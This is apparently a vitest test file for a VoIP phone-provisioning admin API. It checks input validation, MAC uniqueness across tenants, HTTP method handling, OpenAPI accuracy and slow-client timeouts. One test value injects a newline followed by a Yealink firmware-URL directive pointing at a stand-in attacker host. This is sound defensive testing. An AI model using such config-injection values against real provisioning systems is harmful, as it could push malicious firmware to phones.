/**
 * Issue 11, the admin API as an attacker and a careless client would try it: control characters and NUL bytes in
 * every kind of input are refused with a 400 naming the field before anything reaches Postgres; a MAC belongs to one
 * PBX in the deployment (409, without naming the other); ids are strictly decimal; time zones are stored canonical;
 * wrong methods get 405 with `Allow`; the OpenAPI document says what the server enforces.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startApiServer } from '../../api/http-server.ts';
import { type ApiHarness, type CallOptions, createApiHarness, snapshotState } from '../support/api.ts';
import { lifecycleStubBundle } from '../support/lifecycle-stub.ts';
import { sendIncompleteRequest } from '../support/slow-client.ts';

let h: ApiHarness;
let admin: string;
let tenantB: string;
let accountId: number;
const A = '/api/pbxes/tenant-a';
const B = '/api/pbxes/tenant-b';

beforeAll(async () => {
  h = await createApiHarness({ workflowBundle: await lifecycleStubBundle() });
  admin = await h.token('root');
  for (const id of ['tenant-a', 'tenant-b']) {
    const res = await h.call('POST', '/api/pbxes', {
      token: admin,
      json: { id, name: `Tenant ${id}`, timeZone: 'Europe/Berlin' },
    });
    expect(res.status).toBe(201);
  }
  const res = await h.call('POST', `${A}/accounts`, {
    token: admin,
    json: { mac: '805ec0aa0001', model: 'yealink-t54w', extension: '100', displayName: 'Alice' },
  });
  expect(res.status).toBe(201);
  accountId = res.body.account.id;
  tenantB = await h.token('bob', 'tenant-b');
});
afterAll(async () => {
  await h?.close();
});

type Case = [name: string, method: string, path: string, request: CallOptions, field: string];

const account = { mac: '805ec0aa0002', model: 'yealink-t54w', extension: '200' };
const pbx = { name: 'New', timeZone: 'Europe/Berlin' };

const badInput: Case[] = [
  [
    'display name with a line break (Yealink key injection)',
    'POST',
    `${A}/accounts`,
    { json: { ...account, displayName: 'Alice\nstatic.firmware.url = http://evil.example/x.rom' } },
    'displayName',
  ],
  [
    'display name with a bare CR',
    'POST',
    `${A}/accounts`,
    { json: { ...account, displayName: 'A\rB' } },
    'displayName',
  ],
  [
    'display name with a NUL byte',
    'POST',
    `${A}/accounts`,
    { json: { ...account, displayName: 'A\u0000' } },
    'displayName',
  ],
  [
    'display name with ESC',
    'POST',
    `${A}/accounts`,
    { json: { ...account, displayName: 'A\u001b[2J' } },
    'displayName',
  ],
  [
    'display name with DEL',
    'POST',
    `${A}/accounts`,
    { json: { ...account, displayName: 'A\u007f' } },
    'displayName',
  ],
  [
    'display name with a C1 control',
    'POST',
    `${A}/accounts`,
    { json: { ...account, displayName: 'A\u0085B' } },
    'displayName',
  ],
  [
    'display name with U+2028',
    'POST',
    `${A}/accounts`,
    { json: { ...account, displayName: 'A\u2028B' } },
    'displayName',
  ],
  [
    'display name with a lone surrogate',
    'POST',
    `${A}/accounts`,
    { json: { ...account, displayName: 'A\ud800B' } },
    'displayName',
  ],
  [
    'display name too long',
    'POST',
    `${A}/accounts`,
    { json: { ...account, displayName: 'x'.repeat(101) } },
    'displayName',
  ],
  [
    'display name with a NUL byte in a bulk item',
    'POST',
    `${A}/accounts/bulk`,
    { json: { accounts: [{ ...account, displayName: '\u0000' }] } },
    'accounts.0.displayName',
  ],
  ['PBX name with a NUL byte', 'POST', '/api/pbxes', { json: { ...pbx, name: 'ACME\u0000' } }, 'name'],
  ['PBX name with a line break', 'POST', '/api/pbxes', { json: { ...pbx, name: 'ACME\nX' } }, 'name'],
  ['PBX name with a tab', 'POST', '/api/pbxes', { json: { ...pbx, name: 'ACME\tX' } }, 'name'],
  [
    'model with a NUL byte',
    'POST',
    `${A}/accounts`,
    { json: { ...account, model: 'yealink-t54w\u0000' } },
    'model',
  ],
  ['rollout id %00', 'GET', `${A}/rollouts/%00`, {}, 'rolloutId'],
  [
    'rollout id with a NUL inside',
    'GET',
    `${A}/rollouts/0193e3f2-7c1d-7000-8000-00000000%00`,
    {},
    'rolloutId',
  ],
  ['journal action %00', 'GET', `${A}/journal?action=%00`, {}, 'action'],
  ['journal model %00', 'GET', `${A}/journal?modelId=%00`, {}, 'modelId'],
  ['PBX id %00', 'GET', '/api/pbxes/%00', {}, 'pbxId'],
  ['account id %00', 'GET', `${A}/accounts/%00`, {}, 'accountId'],
  ['account id in hex', 'GET', `${A}/accounts/0x2e`, {}, 'accountId'],
  ['account id with an exponent', 'GET', `${A}/accounts/4.6e1`, {}, 'accountId'],
  ['account id with a leading zero', 'GET', `${A}/accounts/046`, {}, 'accountId'],
  ['account id with a plus sign', 'DELETE', `${A}/accounts/+46`, {}, 'accountId'],
  ['account id 0', 'GET', `${A}/accounts/0`, {}, 'accountId'],
  ['page cursor in hex', 'GET', `${A}/accounts?afterId=0x10`, {}, 'afterId'],
  ['page size with an exponent', 'GET', `${A}/accounts?limit=1e2`, {}, 'limit'],
  ['page size with a leading zero', 'GET', `${A}/journal?limit=050`, {}, 'limit'],
  ['journal cursor with a fraction', 'GET', `${A}/journal?beforeId=4.0`, {}, 'beforeId'],
  ['journal date that is only a year', 'GET', `${A}/journal?from=2025`, {}, 'from'],
  [
    'event version with a NUL byte',
    'POST',
    `${A}/events`,
    { json: { kind: 'upgraded', version: '9\u0000' } },
    'version',
  ],
];

describe('issue 11: bad input is refused before it reaches Postgres or a phone file', () => {
  it.each(badInput)('%s: %s %s → 400 naming the field', async (_name, method, path, request, field) => {
    const before = await snapshotState(h);
    const res = await h.call(method, path, { token: admin, ...request });
    expect(res.status).toBe(400);
    expect(res.body.field).toBe(field);
    expect(res.body.error).toContain(field);
    expect(await snapshotState(h)).toEqual(before);
  });

  it('a display name with spaces, accents and emoji is kept as typed (trimmed)', async () => {
    const res = await h.call('POST', `${A}/accounts`, {
      token: admin,
      json: { ...account, mac: '805ec0aa0003', extension: '300', displayName: '  Zoë Müller-Łukasz 😀  ' },
    });
    expect(res.status).toBe(201);
    expect(res.body.account.displayName).toBe('Zoë Müller-Łukasz 😀');
  });

  it('a strictly decimal account id still works', async () => {
    expect((await h.call('GET', `${A}/accounts/${accountId}`, { token: admin })).status).toBe(200);
  });
});

describe('issue 11: a MAC belongs to one PBX in the deployment', () => {
  it("R16: another tenant's MAC is refused with 409 that does not name the other PBX", async () => {
    const before = await snapshotState(h);
    const res = await h.call('POST', `${B}/accounts`, {
      token: tenantB,
      json: { mac: '80:5E:C0:AA:00:01', model: 'snom-d785', extension: '100' },
    });
    expect(res.status).toBe(409);
    expect(res.body.field).toBe('mac');
    const text = JSON.stringify(res.body);
    expect(text).not.toContain('tenant-a');
    expect(text).not.toContain('Tenant');
    expect(await snapshotState(h)).toEqual(before);
  });

  it('the same in a bulk request, naming the item', async () => {
    const res = await h.call('POST', `${B}/accounts/bulk`, {
      token: tenantB,
      json: {
        accounts: [
          { mac: '000413bb0001', model: 'snom-d785', extension: '101' },
          { mac: '805ec0aa0001', model: 'snom-d785', extension: '102' },
        ],
      },
    });
    expect(res.status).toBe(409);
    expect(res.body.field).toBe('accounts.1.mac');
    expect(JSON.stringify(res.body)).not.toContain('tenant-a');
  });

  it('the database refuses it too, whatever the API does', async () => {
    const { sql } = h.database;
    // A MAC only tenant-a has (created above through the API); tenant-b takes it behind the API's back.
    await expect(
      sql`insert into phone_accounts (pbx_id, model_id, mac, extension) values ('tenant-b', 'snom-d785', '805ec0aa0003', '999')`,
    ).rejects.toThrow(/unique|duplicate/i);
  });
});

describe('issue 11: what the API stores and how it answers methods', () => {
  it('R10: a time zone typed in another case is stored canonical (EUROPE/BERLIN → Europe/Berlin)', async () => {
    const res = await h.call('POST', '/api/pbxes', {
      token: admin,
      json: { id: 'berlin', name: 'Berlin', timeZone: 'EUROPE/BERLIN' },
    });
    expect(res.status).toBe(201);
    expect(res.body.pbx.timeZone).toBe('Europe/Berlin');
    const [row] = await h.database.sql`select time_zone from pbxes where id = 'berlin'`;
    expect(row!.time_zone).toBe('Europe/Berlin');
  });

  it('a name from which no id can be derived still registers (a stable id from the name)', async () => {
    const res = await h.call('POST', '/api/pbxes', {
      token: admin,
      json: { name: '日本', timeZone: 'Asia/Tokyo' },
    });
    expect(res.status).toBe(201);
    expect(res.body.pbx.id).toMatch(/^pbx-[0-9a-f]{8}$/);
  });

  it.each([
    ['PUT', '/api/pbxes', 'GET, HEAD, OPTIONS, POST'],
    ['DELETE', '/api/pbxes/tenant-a', 'GET, HEAD, OPTIONS'],
    ['POST', `${A}/overview`, 'GET, HEAD, OPTIONS'],
    ['GET', `${A}/check-now`, 'OPTIONS, POST'],
    ['PATCH', `${A}/accounts/1`, 'DELETE, GET, HEAD, OPTIONS'],
    ['DELETE', '/openapi.json', 'GET, HEAD, OPTIONS'],
  ])('%s %s → 405 with Allow: %s', async (method, path, allow) => {
    const res = await h.call(method, path, { token: admin });
    expect(res.status).toBe(405);
    expect(res.headers.get('allow')).toBe(allow);
    expect(typeof res.body.error).toBe('string');
  });

  it('OPTIONS lists the methods of a resource', async () => {
    const res = await h.call('OPTIONS', `${A}/accounts`, { token: admin });
    expect(res.status).toBe(204);
    expect(res.headers.get('allow')).toBe('GET, HEAD, OPTIONS, POST');
  });

  it('unknown paths stay 404', async () => {
    expect((await h.call('GET', '/api/nothing-here', { token: admin })).status).toBe(404);
  });
});

describe('issue 11: the OpenAPI document says what the server enforces', () => {
  // biome-ignore lint/suspicious/noExplicitAny: the document is walked by hand
  let doc: any;
  beforeAll(async () => {
    doc = (await h.call('GET', '/openapi.json')).body;
  });
  // biome-ignore lint/suspicious/noExplicitAny: the document is walked by hand
  const resolve = (s: any): any => (s?.$ref ? resolve(doc.components.schemas[s.$ref.split('/').pop()]) : s);

  it('updateMoment may be null in the published PBX schema (as GET /api/pbxes answers)', () => {
    const moment = doc.components.schemas.Pbx.properties.updateMoment;
    const allowsNull =
      moment.nullable === true ||
      (moment.anyOf ?? moment.oneOf ?? []).some(
        // biome-ignore lint/suspicious/noExplicitAny: schema fragment
        (s: any) => s.nullable === true || s.type === 'null',
      );
    expect(allowsNull).toBe(true);
  });

  it('the MAC has its pattern, and the pattern matches what the server accepts', () => {
    const mac = resolve(doc.components.schemas.NewPhoneAccount.properties.mac);
    expect(mac.pattern).toBeTruthy();
    const re = new RegExp(mac.pattern);
    for (const ok of ['80:5e:c0:aa:bb:cc', '805EC0AABBCC', '80-5e-c0-aa-bb-cc', '805e.c0aa.bbcc']) {
      expect(re.test(ok), ok).toBe(true);
    }
    for (const bad of ['80:5e:c0:aa:bb', '805ec0aabbcg', '80:5e-c0:aa:bb:cc', ''])
      expect(re.test(bad), bad).toBe(false);
  });

  it('settings need at least one field', () => {
    expect(
      resolve(doc.paths['/api/pbxes/{pbxId}/settings'].patch.requestBody.content['application/json'].schema),
    ).toMatchObject({ minProperties: 1 });
  });

  it('model ids are the known models', () => {
    const param = doc.paths['/api/pbxes/{pbxId}/types/{modelId}/auto-update'].put.parameters.find(
      // biome-ignore lint/suspicious/noExplicitAny: schema fragment
      (p: any) => p.name === 'modelId',
    );
    expect([...resolve(param.schema).enum].sort()).toEqual([
      'snom-d785',
      'snom-m900',
      'yealink-t31',
      'yealink-t54w',
    ]);
  });

  it('numeric ids are integers ≥ 1', () => {
    const param = doc.paths['/api/pbxes/{pbxId}/accounts/{accountId}'].get.parameters.find(
      // biome-ignore lint/suspicious/noExplicitAny: schema fragment
      (p: any) => p.name === 'accountId',
    );
    expect(resolve(param.schema)).toMatchObject({ type: 'integer', minimum: 1 });
  });

  it('free text documents its length limit and forbids control characters', () => {
    const name = resolve(doc.components.schemas.NewPhoneAccount.properties.displayName);
    expect(name.maxLength).toBe(100);
    const re = new RegExp(name.pattern, 'u');
    expect(re.test('Zoë 😀')).toBe(true);
    for (const bad of ['A\nB', 'A\rB', 'A\u0000', 'A\u0085', ' '])
      expect(re.test(bad), JSON.stringify(bad)).toBe(false);
  });
});

describe('issue 11: the API server does not wait forever for a request', () => {
  it('a Content-Length beyond the body, and headers that never end, are answered 408 and disconnected', async () => {
    const server = await startApiServer(h.app.fetch, {
      host: '127.0.0.1',
      port: 0,
      headersTimeoutMs: 400,
      requestTimeoutMs: 800,
    });
    try {
      const body = await sendIncompleteRequest(
        server.url,
        `POST /api/pbxes HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer ${admin}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"name":`,
        10_000,
      );
      expect(body.statusLine).toMatch(/^HTTP\/1\.1 408/);
      expect(body.closedAfterMs).toBeLessThan(5_000);
      const head = await sendIncompleteRequest(
        server.url,
        'GET /api/pbxes HTTP/1.1\r\nHost: api\r\n',
        10_000,
      );
      expect(head.statusLine).toMatch(/^HTTP\/1\.1 408/);
      expect(head.closedAfterMs).toBeLessThan(5_000);
      const ok = await fetch(`${server.url}/api/pbxes`, { headers: { authorization: `Bearer ${admin}` } });
      expect(ok.status).toBe(200);
    } finally {
      await server.close();
    }
  });
});
